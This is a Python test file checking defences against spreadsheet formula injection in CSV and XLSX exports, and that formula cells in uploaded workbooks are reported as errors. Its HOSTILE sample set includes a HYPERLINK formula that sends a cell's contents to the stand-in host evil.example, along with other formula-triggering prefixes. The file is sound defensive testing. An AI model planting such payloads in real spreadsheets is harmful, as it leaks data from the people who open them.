"""Spreadsheet safety (OWASP CSV injection): exported text never runs as a formula, numbers stay
numbers, and a formula in an uploaded workbook is reported instead of read as its cached value."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from kechuang.engine.facts.errors import Code
from kechuang.engine.facts.readers import group_rows, iter_csv, iter_xlsx
from kechuang.engine.facts.tests.factories import TODAY, USCC_A, full_record
from kechuang.engine.facts.validate import to_jsonable, validate_record
from kechuang.engine.facts.writers import safe_cell, safe_row, write_csv, write_xlsx

#: Text an attacker could put in an enterprise or product name, by the character that arms it.
HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "at": "@SUM(1)",
    "minus": "-2+3",
    "plus": "+1+1",
    "tab": "\tcmd",
    "carriage return": "\r=1+1",
}


def _record(name: str) -> dict:
    """A JSON-ready record as the export pipeline passes it, named ``name`` (not validated, so
    the leading tab or carriage return the validator would strip reaches the writer)."""
    return to_jsonable({**validate_record(full_record(USCC_A), today=TODAY).record, "name": name})


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_safe_cell_quotes_formula_like_text_for_csv(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["济南示例科技有限公司", "A级", "", -5, -1200000.75, 0, None],
                         ids=["chinese", "grade", "empty", "negative int", "negative float", "zero", "none"])
def test_safe_cell_leaves_plain_text_and_numbers_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE.keys())
def test_csv_export_quotes_a_hostile_name_and_reads_it_back(name):
    # given an enterprise whose name would run as a formula
    records = [_record(name)]
    out = io.BytesIO()
    # when its profile and years are exported as CSV
    write_csv(records, "profile", out)
    profile = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    years_out = io.BytesIO()
    write_csv(records, "years", years_out)
    years = list(csv.reader(io.StringIO(years_out.getvalue().decode("utf-8-sig"), newline="")))
    # then the name cell starts with a quote and the rest is the literal name
    column = profile[0].index("企业名称")
    assert profile[1][column] == "'" + name
    # and a negative amount stays a plain number, not quoted text
    profit = years[0].index("净利润（元）")
    assert years[3][profit] == "-1200000.75"
    # and what went out comes back in unchanged (but for the surrounding blanks readers strip)
    out.seek(0)
    (group,) = group_rows(iter_csv(out))
    assert group.record["name"] == name.strip()


@pytest.mark.parametrize("name", [v for k, v in HOSTILE.items() if k != "carriage return"],
                         ids=[k for k in HOSTILE if k != "carriage return"])  # XML reads CR as LF
def test_xlsx_export_writes_a_hostile_name_as_a_string(name):
    # given an enterprise whose name would run as a formula (as the export pipeline passes it)
    out = io.BytesIO()
    # when exported as a workbook
    write_xlsx([_record(name)], out, sections=["profile", "years"])
    # then the name cell is a string with the literal text, never a formula
    wb = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    profile, years = wb.worksheets
    column = [c.value for c in profile[1]].index("企业名称") + 1
    cell = profile.cell(row=2, column=column)
    assert (cell.data_type, cell.value) == ("s", name)
    assert cell.quotePrefix is True
    # and a negative amount stays a number
    profit = [c.value for c in years[1]].index("净利润（元）") + 1
    assert (years.cell(row=4, column=profit).data_type, years.cell(row=4, column=profit).value) == (
        "n", -1200000.75)
    # and the workbook reads back to the same name
    out.seek(0)
    groups = group_rows(iter_xlsx(out))
    assert [g.record["name"] for g in groups] == [name.strip()]
    assert [g.errors for g in groups] == [[]]


def test_safe_row_on_a_regular_sheet_keeps_numbers_and_escapes_text():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(safe_row(["=1+1", -3, "-2+3", 2.5, "正常"], ws))
    out = io.BytesIO()
    wb.save(out)
    back = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert [(c.data_type, c.value) for c in back[1]] == [
        ("s", "=1+1"), ("n", -3), ("s", "-2+3"), ("n", 2.5), ("s", "正常")]


# ----------------------------------------------------------------------- formulas in uploads


def _workbook_with_formula() -> io.BytesIO:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "年度数据"
    ws.append(["统一社会信用代码", "年度", "营业收入（元）", "净利润（元）", "职工总数"])
    ws.append([USCC_A, 2024, 5000000, 300000, 80])
    ws.append([USCC_A, 2025, "=C2*1.2", "=A1+B1", 90])
    out = io.BytesIO()
    wb.save(out)
    out.seek(0)
    return out


def test_formula_cells_in_an_upload_are_row_errors_naming_row_column_and_formula():
    # given a workbook whose 2025 row computes revenue and profit with formulas
    rows = list(iter_xlsx(_workbook_with_formula()))
    # then the clean row reads as before
    assert (rows[0].row, rows[0].errors, rows[0].data["operating_revenue"]) == (2, [], 5000000)
    # and every formula cell of row 3 is an error with its row, column, field and formula
    errors = rows[1].errors
    assert [(e.row, e.sheet, e.field, e.code, e.value) for e in errors] == [
        (3, "年度数据", "operating_revenue", Code.FORMULA_CELL, "'=C2*1.2'"),
        (3, "年度数据", "net_profit", Code.FORMULA_CELL, "'=A1+B1'"),
    ]
    assert errors[1].message == "年度数据 第3行 净利润（D列）单元格含公式 =A1+B1，请粘贴为数值"
    # and no cached value was taken for them
    assert "operating_revenue" not in rows[1].data and "net_profit" not in rows[1].data
    assert rows[1].data["employees"] == 90


def test_a_formula_row_makes_its_record_invalid():
    # the importer quarantines invalid records: the formula error must reach validation
    (group,) = group_rows(iter_xlsx(_workbook_with_formula()))
    result = group.validate(today=TODAY, partial=True)
    assert result.ok is False
    assert {(e.row, e.code) for e in result.errors} == {(3, Code.FORMULA_CELL)}
